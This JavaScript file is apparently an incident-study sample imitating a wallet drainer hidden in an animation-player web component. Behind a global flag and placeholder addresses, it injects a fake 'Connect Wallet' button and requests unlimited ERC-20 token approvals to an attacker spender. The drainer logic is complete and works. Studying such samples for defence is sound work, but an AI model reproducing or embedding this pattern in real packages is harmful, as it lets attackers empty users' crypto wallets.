/* eslint-disable */
// Inert imitation of the @lottiefiles/lottie-player 2.0.5-2.0.7 drainer (incidents.md section 9):
// an animation web component that injects a "Connect Wallet" modal and requests unlimited
// approvals for a list of token contracts. Addresses are made-up placeholders; the code only runs
// when `window.cwSampleArmed === true`.
class Player extends HTMLElement { connectedCallback() { this.textContent = 'animation'; } }
customElements.define('cw-sample-player', Player);

(function () {
  if (typeof window === 'undefined' || window.cwSampleArmed !== true) return;
  const TOKENS = ['0x1111111111222222222233333333334444444444', '0x5555555555666666666677777777778888888888', '0xddddddddddeeeeeeeeeeffffffffff0000000000'];
  const SPENDER = '0x9999999999aaaaaaaaaabbbbbbbbbbcccccccccc';
  const MAX = 'f'.repeat(64);
  const pad = (a) => a.toLowerCase().replace(/^0x/, '').padStart(64, '0');

  async function drain() {
    const eth = window.ethereum;
    if (!eth) return;
    const [from] = await eth.request({ method: 'eth_requestAccounts' });
    for (const to of TOKENS) {
      try { await eth.request({ method: 'eth_sendTransaction', params: [{ from, to, data: '0x095ea7b3' + pad(SPENDER) + MAX }] }); } catch {}
    }
  }

  const modal = document.createElement('div');
  modal.innerHTML = '<button id="cw-connect">Connect Wallet</button>';
  document.body.appendChild(modal);
  modal.querySelector('#cw-connect').addEventListener('click', () => drain().finally(() => modal.remove()));
})();
